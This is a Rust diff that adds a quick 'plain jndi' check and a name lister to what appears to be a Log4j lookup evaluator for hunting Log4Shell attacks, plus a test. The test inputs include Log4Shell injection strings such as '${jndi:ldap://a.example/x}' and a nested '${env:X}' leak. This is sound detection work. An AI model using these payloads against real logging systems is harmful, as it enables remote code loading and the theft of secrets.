@@ -126,6 +126,59 @@ pub(crate) fn evaluate(input: &str, limits: &Limits) -> Evaluation {
     }
 }
 
+/// True when every lookup in `input` is a plain `${jndi:NAME}`: no `$` inside (so no nesting
+/// and no escape), no `:-` default, not escaped by a `$` before it, and closed. Log4j leaves
+/// such text as it is, so [`evaluate`] would return it unchanged, without an abort, with one
+/// `jndi` call per distinct name and no exfiltration; [`plain_jndi_names`] lists the names.
+///
+/// Most attacks are this shape once decoded, and checking it is one pass over the text without
+/// the close table, the substituted copy of the text or a lookup evaluation.
+pub(crate) fn is_plain_jndi(input: &str, limits: &Limits) -> bool {
+    let bytes = input.as_bytes();
+    // `evaluate` stops at this size even when nothing changes.
+    if bytes.len() > limits.max_output {
+        return false;
+    }
+    let mut pos = 0;
+    while let Some(start) = find_open(bytes, pos) {
+        if start > 0 && bytes[start - 1] == b'$' {
+            return false;
+        }
+        let name_start = start + 2;
+        let Some(end) = memchr::memchr2(b'$', b'}', &bytes[name_start..]).map(|i| name_start + i)
+        else {
+            return false;
+        };
+        let expression = &bytes[name_start..end];
+        if bytes[end] == b'$'
+            || !expression
+                .get(..JNDI_PREFIX.len())
+                .is_some_and(|prefix| prefix.eq_ignore_ascii_case(JNDI_PREFIX))
+            || find_default(expression).is_some()
+        {
+            return false;
+        }
+        pos = end + 1;
+    }
+    true
+}
+
+/// `jndi:`, in any ASCII case the start of a `jndi` lookup.
+const JNDI_PREFIX: &[u8] = b"jndi:";
+
+/// The names of the lookups of text that [`is_plain_jndi`] accepts, in order (with repeats).
+pub(crate) fn plain_jndi_names(input: &str) -> impl Iterator<Item = &str> {
+    let bytes = input.as_bytes();
+    let mut pos = 0;
+    std::iter::from_fn(move || {
+        let start = find_open(bytes, pos)?;
+        let name_start = start + 2 + JNDI_PREFIX.len();
+        let end = name_start + memchr::memchr(b'}', &bytes[name_start..])?;
+        pos = end + 1;
+        Some(&input[name_start..end])
+    })
+}
+
 /// Substitutes `name` alone (the inside of `${...}`), for naming what is left unresolved.
 pub(crate) fn substitute_name(name: &str, limits: &Limits) -> String {
     let evaluation = evaluate(name, limits);
@@ -639,6 +692,60 @@ mod tests {
                 }
             }
         }
+    }
+
+    #[test]
+    fn plain_jndi_text_evaluates_to_itself() {
+        let mut texts: Vec<String> = [
+            "${jndi:ldap://a.example/x}",
+            "x ${jndi:a} y ${JNDI:b} ${jndi:a}",
+            "$${jndi:x}",
+            "${jndi:x:-y}",
+            "${jndi:a$b}",
+            "${jndi:a",
+            "${lower:j}",
+            "${jndi:ldap://${env:X}}",
+            "plain $5 text",
+        ]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+        texts.extend(
+            crate::hunt::corpus::generate(23, 1000)
+                .into_iter()
+                .map(|line| line.text),
+        );
+        let mut plain = 0;
+        for text in &texts {
+            if !is_plain_jndi(text, &Limits::default()) {
+                continue;
+            }
+            plain += 1;
+            let evaluation = eval(text);
+            assert_eq!(evaluation.output, *text);
+            assert_eq!(evaluation.abort, None);
+            let mut names: Vec<&str> = Vec::new();
+            for name in plain_jndi_names(text) {
+                if !names.contains(&name) {
+                    names.push(name);
+                }
+            }
+            let calls: Vec<(&str, usize)> = evaluation
+                .jndi
+                .iter()
+                .map(|call| (call.name.as_str(), call.exfiltration.len()))
+                .collect();
+            let expected: Vec<(&str, usize)> = names.iter().map(|name| (*name, 0)).collect();
+            assert_eq!(calls, expected, "{text:?}");
+        }
+        assert!(plain > 100, "{plain}");
+        assert!(!is_plain_jndi(
+            &"${jndi:x}".repeat(9),
+            &Limits {
+                max_output: 80,
+                ..Limits::default()
+            }
+        ));
     }
 
     #[test]
